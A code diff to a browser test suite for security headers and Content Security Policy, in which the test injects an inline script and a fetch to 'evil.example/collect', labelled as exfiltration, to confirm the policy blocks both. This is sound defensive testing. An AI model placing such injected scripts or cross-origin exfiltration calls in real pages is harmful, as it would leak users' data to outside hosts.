@@ -33,9 +33,8 @@ describeBrowser('security headers and CSP', () => {
       const s = document.createElement('script');
       s.textContent = 'window.__pwned = true';
       document.body.appendChild(s);
-      const img = document.createElement('img');
-      img.src = 'https://evil.example/pixel.png';
-      document.body.appendChild(img);
+      // Exfiltration to another origin (images may come from any https address: catalogue images).
+      void fetch('https://evil.example/collect').catch(() => undefined);
     });
     expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
     await expect.poll(() => cspViolations.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
